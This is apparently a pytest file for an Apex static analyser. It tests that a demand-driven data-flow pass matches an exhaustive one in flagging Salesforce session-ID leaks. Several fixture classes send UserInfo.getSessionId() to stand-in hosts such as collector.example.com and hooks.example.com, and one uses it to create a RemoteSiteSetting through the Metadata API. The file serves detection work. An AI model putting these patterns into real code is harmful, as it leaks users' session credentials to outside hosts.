"""The data flow analyses only the methods a session can reach (the demand set) and must give
exactly what analysing every method gives: same findings, messages and source verdicts.

Checked on every fixture package (with and without test code) and on a generated package whose
planted flows cross classes through shared clients, loggers, fields and async entry points.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from apexlint.analyses.dataflow import DataFlow, FlowResult
from apexlint.engine import ScanOptions, scan
from apexlint.findings import ScanResult
from benchmarks.generate import generate
from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package

REPO = Path(__file__).resolve().parents[1]
PACKAGES = sorted(p.name for p in (REPO / "fixtures").iterdir() if p.is_dir())


def _outcome(result: ScanResult) -> tuple[list[tuple[str, str, int, int, str, str]], list[tuple[str, tuple[str, ...]]]]:
    findings = [(f.rule_id, f.location.path, f.location.span.start_line, f.location.span.start_col, f.message,
                 f.fingerprint) for f in result.findings]
    verdicts = [(v.source_id, v.rule_ids) for v in result.verdicts]
    return findings, verdicts


def _both(root: Path, include_tests: bool) -> tuple[ScanResult, ScanResult]:
    demand = scan(ScanOptions(paths=(root,), root=REPO if root.is_relative_to(REPO) else root, jobs=1,
                              include_tests=include_tests))
    exhaustive = scan(ScanOptions(paths=(root,), root=REPO if root.is_relative_to(REPO) else root, jobs=1,
                                  include_tests=include_tests, exhaustive=True))
    return demand, exhaustive


@pytest.mark.parametrize("include_tests", [False, True], ids=["shipped", "with-tests"])
@pytest.mark.parametrize("package", PACKAGES)
def test_demand_set_gives_the_exhaustive_result_on_fixtures(package: str, include_tests: bool) -> None:
    demand, exhaustive = _both(REPO / "fixtures" / package, include_tests)
    assert _outcome(demand) == _outcome(exhaustive)


def test_demand_set_gives_the_exhaustive_result_on_a_generated_package(tmp_path: Path) -> None:
    root = tmp_path / "pkg"
    generate(root, 60, seed=11)
    demand, exhaustive = _both(root, include_tests=False)
    assert _outcome(demand) == _outcome(exhaustive)
    assert demand.findings, "the generated package plants session flows: the comparison must not be vacuous"


# -- what a field's setters are given --------------------------------------------------------
# A field that a session-carrying method reads holds what every caller of its setters passed
# (`demand.py`: the callers of a writer whose write depends on its parameters). Those callers hold
# no session, and no fixture package needs them: leaving them out changed no fixture's result, yet
# each case below would lose what its message says. Where the field's text goes (an endpoint, a
# write-capable body) is known only where the reader's value is used, after the field was read.
_SETTER_CASES: dict[str, dict[str, str]] = {
    "endpoint": {
        "Target.cls": (
            "public class Target {\n"
            "    private String host = '';\n"
            "    public Target setHost(String h) { this.host = h; return this; }\n"
            "    public String url() { return 'https://' + host + '/collect'; }\n"
            "}\n"),
        "Setup.cls": (
            "public class Setup {\n"
            "    public static Target configure() { return new Target().setHost('collector.example.com'); }\n"
            "}\n"),
        "Sender.cls": (
            "public class Sender {\n"
            "    private static Target target = new Target();\n"
            "    public static void send() {\n"
            "        HttpRequest r = new HttpRequest();\n"
            "        r.setEndpoint(target.url());\n"
            "        r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());\n"
            "        new Http().send(r);\n"
            "    }\n"
            "}\n"),
    },
    "metadata type": {
        "Envelope.cls": (
            "public class Envelope {\n"
            "    private String kind = '';\n"
            "    public Envelope ofType(String t) { this.kind = t; return this; }\n"
            "    public String xml(String sid) {\n"
            "        return '<env:Envelope xmlns:env=\"http://schemas.xmlsoap.org/soap/envelope/\" '\n"
            "            + 'xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">'\n"
            "            + '<env:Header><SessionHeader xmlns=\"http://soap.sforce.com/2006/04/metadata\">'\n"
            "            + '<sessionId>' + sid + '</sessionId></SessionHeader></env:Header>'\n"
            "            + '<env:Body><createMetadata xmlns=\"http://soap.sforce.com/2006/04/metadata\">'\n"
            "            + '<metadata xsi:type=\"' + kind + '\"><fullName>Partner_API</fullName></metadata>'\n"
            "            + '</createMetadata></env:Body></env:Envelope>';\n"
            "    }\n"
            "}\n"),
        "Setup.cls": (
            "public class Setup {\n"
            "    public static Envelope configure() { return new Envelope().ofType('RemoteSiteSetting'); }\n"
            "}\n"),
        "Deployer.cls": (
            "public class Deployer {\n"
            "    private static Envelope envelope = new Envelope();\n"
            "    public static void deploy() {\n"
            "        HttpRequest req = new HttpRequest();\n"
            "        req.setEndpoint(URL.getOrgDomainUrl().toExternalForm() + '/services/Soap/m/59.0');\n"
            "        req.setMethod('POST');\n"
            "        req.setHeader('SOAPAction', 'createMetadata');\n"
            "        req.setBody(envelope.xml(UserInfo.getSessionId()));\n"
            "        new Http().send(req);\n"
            "    }\n"
            "}\n"),
    },
    # the session itself, kept by one method and sent in a body by another
    "stored session": {
        "Vault.cls": (
            "public class Vault {\n"
            "    private static String token;\n"
            "    public static void keep(String t) { token = t; }\n"
            "    public static String payload() { return '{\"sid\":\"' + token + '\"}'; }\n"
            "}\n"),
        "Starter.cls": (
            "public class Starter {\n"
            "    public static void start() { Vault.keep(UserInfo.getSessionId()); }\n"
            "}\n"),
        "Poster.cls": (
            "public class Poster {\n"
            "    public static void post() {\n"
            "        HttpRequest req = new HttpRequest();\n"
            "        req.setEndpoint('https://hooks.example.com/in');\n"
            "        req.setMethod('POST');\n"
            "        req.setBody(Vault.payload());\n"
            "        new Http().send(req);\n"
            "    }\n"
            "}\n"),
    },
}


@pytest.mark.parametrize(("case", "expected"), [
    ("endpoint", ("SID002", "Sender.cls", 7, "header 'Authorization' to https://collector.example.com/collect")),
    ("metadata type", ("SID004", "Deployer.cls", 9, "Metadata API createMetadata of RemoteSiteSetting")),
    ("stored session", ("SID002", "Poster.cls", 7, "sent in the body to https://hooks.example.com/in")),
])
def test_a_field_holds_what_its_setters_callers_gave_it(tmp_path: Path, case: str,
                                                        expected: tuple[str, str, int, str]) -> None:
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/{name}": text.encode()
                                  for name, text in _SETTER_CASES[case].items()})
    demand, exhaustive = _both(tmp_path, include_tests=False)
    assert _outcome(demand) == _outcome(exhaustive)
    rule, file, line, words = expected
    assert [(f.rule_id, f.location.path.rsplit("/", 1)[-1], f.location.span.start_line) for f in demand.findings] \
        == [(rule, file, line)]
    assert words in demand.findings[0].message


_NAMED_WRITES = {
    "Target.cls": (
        "public class Target {\n"
        "    public String name = '';\n"
        "    public String url() { return 'https://' + name + '/collect'; }\n"
        "}\n"),
    "Setup.cls": (
        "public class Setup {\n"
        "    public static Target target = new Target();\n"
        "    public static void configure() {\n"
        "        Setup.target.name = 'collector.example.com';\n"
        "    }\n"
        "    public static void rename(Account acc, Other other) {\n"
        "        acc.Name = 'records.example.com';\n"
        "        other.name = 'other.example.com';\n"
        "    }\n"
        "}\n"),
    "Other.cls": "public class Other {\n    public String name;\n}\n",
    "Sender.cls": (
        "public class Sender {\n"
        "    public static void send() {\n"
        "        HttpRequest r = new HttpRequest();\n"
        "        r.setEndpoint(Setup.target.url());\n"
        "        r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());\n"
        "        new Http().send(r);\n"
        "    }\n"
        "}\n"),
}


def test_a_field_is_written_where_its_name_resolves_to_its_class(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    # three fields called `name`: only `Setup.target.name` is Target's, and that write alone gives
    # the request its host; `rename` sets a record's and another class's, and is not analysed
    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/{n}": text.encode() for n, text in _NAMED_WRITES.items()})
    analysed: list[set[str]] = []
    run = DataFlow.run

    def kept(flow: DataFlow) -> FlowResult:
        analysed.append(flow.active)
        return run(flow)

    monkeypatch.setattr(DataFlow, "run", kept)
    demand, exhaustive = _both(tmp_path, include_tests=False)
    assert _outcome(demand) == _outcome(exhaustive)
    assert [(f.rule_id, f.location.span.start_line) for f in demand.findings] == [("SID002", 6)]
    assert "header 'Authorization' to https://collector.example.com/collect" in demand.findings[0].message
    assert [("setup.configure" in a, "setup.rename" in a) for a in analysed] == [(True, False), (True, True)]
